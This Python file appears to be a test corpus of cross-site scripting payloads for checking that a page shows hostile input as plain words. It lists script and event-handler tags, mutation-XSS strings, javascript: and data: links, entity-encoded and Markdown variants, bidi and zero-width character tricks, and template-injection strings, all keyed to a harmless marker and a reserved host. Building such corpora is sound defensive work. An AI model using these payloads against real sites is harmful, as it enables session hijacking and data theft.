"""Text that tries to act: what a page of ours shows of each is words.

Every payload that a browser obeys sets `window.pwned` or asks `example.invalid` for something.
"""

RUN = "window.pwned=1"
FAR = "http://example.invalid/"

TAGS = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT >",
    f"<script src={FAR}x.js></script>",
    f"<<script>{RUN}//<</script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src='x'/onerror='{RUN}'>",
    f"<img src={FAR}pixel.gif>",
    f'"><svg onload="{RUN}">',
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<object data='javascript:{RUN}'></object><embed src='javascript:{RUN}'>",
    f"<a href='javascript:{RUN}'>click</a>",
    f"<a href=' \x01javascript:{RUN}'>click</a>",
    f"<a href='java\tscript:{RUN}'>click</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>click</a>",
    f"<a href='vbscript:{RUN}'>click</a>",
    f"<style>@import '{FAR}x.css'; body {{ background: url({FAR}y) }}</style>",
    f"<p style='background:url({FAR}z)' onmouseover={RUN}>hover</p>",
    f"<link rel=stylesheet href={FAR}z.css><base href={FAR}>",
    f"<meta http-equiv=refresh content='0;url={FAR}'>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<form action={FAR}><button formaction='javascript:{RUN}'>x</button><input autofocus onfocus={RUN}></form>",
    f"<video><source onerror={RUN}></video><audio src=x onerror={RUN}>",
    f"<body onload={RUN}><marquee onstart={RUN}>x</marquee>",
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
    f"<div id=pair class=pair data-action=left role=dialog onclick={RUN}>x</div>",
    f"<input id=__proto__><form id=document name=body><img name=cookie></form><a id=location href={FAR}>x</a>",
    f"<xss onpointerenter={RUN} style='position:fixed;inset:0'>x</xss>",
]

MUTATING = [
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<math><mi xlink:href='data:x,<script>{RUN}</script>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<!--<script>{RUN}//-->",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml version='1.0'?><img src=x onerror={RUN}>",
    f"</title></textarea></noscript></style><script>{RUN}</script>",
    f"<select><template><style><!--</style><a rel='--></style></template></select><img id=x src onerror={RUN}>'>",
    f"<a title='`<img src=x onerror={RUN}>`'>x</a>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<img src='x' onerror=\n\n{RUN}>",
]

ENTITIES = [
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"&#x3c;img src=x onerror={RUN}&#x3e",
    f"<a href='&#106;avascript&colon;{RUN}'>x</a>",
    f"<a href='javascript&#x0000003A;{RUN}'>x</a>",
    f"[x](&#106;avascript&colon;{RUN})",
    "&#x202e;&ZeroWidthSpace;&nbsp;&NewLine;&amp;lt;b&amp;gt;",
]

MARKDOWN = [
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"[x](<java\tscript:{RUN}>)",
    f"[x](javascript://example.invalid/%0A{RUN})",
    f"[x](\x01javascript:{RUN})",
    f"[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg== '{RUN}')",
    f"[x](vbscript:{RUN})",
    f"[x](file:///etc/passwd '{RUN}')",
    f"[x](blob:{FAR}1)",
    f'[x]({FAR} "\\" onmouseover=\\"{RUN}")',
    f"[x](http://a\"onmouseover='{RUN}')",
    f"[x](//example.invalid/{RUN})",
    f"[x](/api/choice?{RUN})",
    f"[x][r]\n\n[r]: javascript:{RUN}",
    f"[r]\n\n[r]: <javascript:{RUN}> '\"><img src=x onerror={RUN}>'",
    f"<javascript:{RUN}>",
    f"<http://x/\"onmouseover='{RUN}'>",
    f"![x](javascript:{RUN})",
    f"![x]({FAR}pixel.gif)",
    f"![x](data:image/svg+xml,<svg/onload={RUN}>)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    f'![x" onerror="{RUN}]({FAR}y.png "\\" onload=\\"{RUN}")',
    f"![<img src=x onerror={RUN}>]({FAR}z.png)",
    f"[![x]({FAR}pixel.gif)](javascript:{RUN})",
    f"[<img src=x onerror={RUN}>]({FAR})",
    f"[x](http://{'a' * 300}.invalid/<script>{RUN}</script>)",
    f"[x](http://[::1/{RUN})",
    f"[x](http://example\u202e.invalid/\u200b{RUN})",
    f"[x](mailto:a@example.invalid?body=<script>{RUN}</script>)",
    f"`<img src=x onerror={RUN}>`",
    f"```html\n<script>{RUN}</script>\n```",
    f'```"><img src=x onerror={RUN}>\nx\n```',
    f"```js onload={RUN} class=x\nx\n```",
    f"    <script>{RUN}</script>\n",
    f"| <img src=x onerror={RUN}> | b |\n|:-:|--:|\n| `<svg onload={RUN}>` | [x](javascript:{RUN}) |",
    f"| a |\n|---|\n| <script>{RUN}</script> | <img src=x onerror={RUN}> |",
    f"# <img src=x onerror={RUN}>\n\n- <svg onload={RUN}>\n\n> <iframe src=javascript:{RUN}>",
    f"$<img src=x onerror={RUN}>$ and \\(<svg onload={RUN}>\\)",
    f"$$\n</p><script>{RUN}</script>\n$$",
    f"~~<s onclick={RUN}>x</s>~~ **<b onclick={RUN}>x</b>**",
    f"<div>\n\n**<script>{RUN}</script>**\n\n</div>",
    f"{'> ' * 60}<script>{RUN}</script>",
    f"{'- ' * 60}<img src=x onerror={RUN}>",
]

CHARACTERS = [
    "\u202e\u2066\u200b\x00\x1b[31m\ufeff\U000e0041",
    f"\u2028<script>{RUN}</script>\u2029",
    f"\ud800<script>{RUN}</script>\udfff",
    f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    f"<img\x0csrc=x\x0conerror={RUN}>",
    f"<img src=x one\u200brror={RUN}>",
    f"＜script＞{RUN}＜/script＞",
    "user\u202egpj.exe and \u2067hidden\u2069 `\u202e code` [\u202elink](http://example.invalid/\u202e)",
    "```\n/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */\n```",
    "zero\u200b\u200b\u200bwidth\u2060\u00ad\u034f\u3164\uffa0",
]

TEMPLATES = [
    f"{{{{ 7 * 7 }}}}{{% include 'config.yaml' %}}${{{RUN}}}",
    f"</body></html><script>{RUN}</script>",
    f'","html":"<img src=x onerror={RUN}>","x":"',
    f"'-{RUN}-' \"+{RUN}+\" `${{{RUN}}}`",
]

CORPUS = [*TAGS, *MUTATING, *ENTITIES, *MARKDOWN, *CHARACTERS, *TEMPLATES]
